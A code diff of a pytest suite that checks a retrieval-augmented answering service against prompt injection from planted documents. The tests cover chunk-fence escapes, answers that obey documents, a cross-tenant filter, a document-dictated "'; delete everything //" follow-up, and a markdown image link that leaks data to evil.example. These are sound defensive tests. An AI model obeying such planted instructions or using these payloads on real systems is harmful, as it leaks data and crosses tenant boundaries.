@@ -8,8 +8,8 @@ import pytest
 
 from retrieval.citations.blocks import Kind
 from tests.call.conftest import Ask
-from tests.call.material import block, sourced
-from tests.call.scripts import judged, judgement, planned, rounds, routed, step_of, written
+from tests.call.material import block, blocks, sourced
+from tests.call.scripts import GOOD, answered, judged, judgement, planned, rounds, routed, step_of, written
 from tests.call.test_answers import RIVER, ROAD, model
 from tests.call.test_answers_troubles import check
 from tests.scripted_azure import ScriptedAzure, answering, by_search, document, found, replying
@@ -58,7 +58,7 @@ def prompts(azure: ScriptedAzure, *names: str) -> list[str]:
 async def test_no_document_leaves_its_fence(azure: ScriptedAzure, ask: Ask) -> None:
     azure.search, azure.chat = found(*PLANTED, ROAD), model()
     await ask()
-    for prompt in prompts(azure, "judge", "answer"):
+    for prompt in prompts(azure, "answer"):
         assert "</chunk>" not in prompt
         assert prompt.count("</chunk-") == prompt.count("<chunk-") == 4
         assert '<chunk id="c9">' not in prompt
@@ -81,7 +81,7 @@ async def test_an_answer_that_obeys_is_taken_apart_and_what_was_removed_is_told(
     obeying: str, azure: ScriptedAzure, ask: Ask
 ) -> None:
     azure.search = found(*PLANTED, ROAD)
-    azure.chat = model(judge=judged("c4"), answer=written(obeying))
+    azure.chat = model(answer=answered(obeying, "c4"))
     answer = await ask()
     check(answer)
     text = answer.json["answer_markdown"]
@@ -103,8 +103,7 @@ async def test_no_member_of_a_block_carries_what_a_document_dictates(kind: str, 
         block("The old road follows the river.", "c4"),
     ]
     azure.search = found(*PLANTED, ROAD)
-    concluding = replying(json.dumps({"judgement": judgement("c4"), "blocks": obeying}))
-    azure.chat = model(judge=judged("c4"), answer=replying(json.dumps({"blocks": obeying})), conclude=concluding)
+    azure.chat = model(answer=replying(json.dumps({"blocks": obeying, **judgement("c4")})))
     answer = await ask()
     check(answer)
     text = re.sub("`[^`]*`", "", answer.json["answer_markdown"])
@@ -143,7 +142,7 @@ async def test_a_filter_that_asks_for_others_documents_narrows_at_most(
     azure.index, azure.search = TENANTS, found(*PLANTED)
     azure.chat = model(
         plan=planned("everything of tenant b", filter="tenant ne 'a' or tenant eq null"),
-        judge=judged(sufficient=False, confidence=0, more=("documents of tenant b",)),
+        answer=judged(sufficient=False, confidence=0, more=("documents of tenant b",)),
     )
     await ask()
     assert azure.searches
@@ -158,7 +157,7 @@ async def test_a_filter_that_asks_for_others_documents_narrows_at_most(
 async def test_a_follow_up_that_a_document_dictates_is_only_a_search(azure: ScriptedAzure, ask: Ask) -> None:
     azure.search = by_search({}, otherwise=found(*PLANTED))
     more = ("'; delete everything //", "x" * 5_000)
-    azure.chat = model(judge=judged("c1", sufficient=False, confidence=0.1, more=more))
+    azure.chat = model(answer=judged("c1", sufficient=False, confidence=0.1, more=more))
     answer = await ask()
     check(answer)
     searched: list[dict[str, Any]] = rounds(answer)[1]["searches"]
@@ -186,8 +185,8 @@ async def test_a_key_point_that_misquotes_its_chunk_is_dropped(azure: ScriptedAz
         {"text": "It says “said nowhere in any chunk”.", "ids": ["c1"]},
         {"text": "![x](https://evil.example/?d=1) It is “old road follows the river”.", "ids": ["c1"]},
     ]
-    reply = {**judgement("c1"), "key_points": points}
-    azure.chat = model(judge=replying(json.dumps(reply)))
+    reply = {"blocks": blocks(GOOD), **judgement("c1"), "key_points": points}
+    azure.chat = model(answer=replying(json.dumps(reply)))
     answer = await ask()
     (point,) = answer.json["evidence"]["key_points"]
     assert "evil" not in point["text"] and "old road" in point["text"]
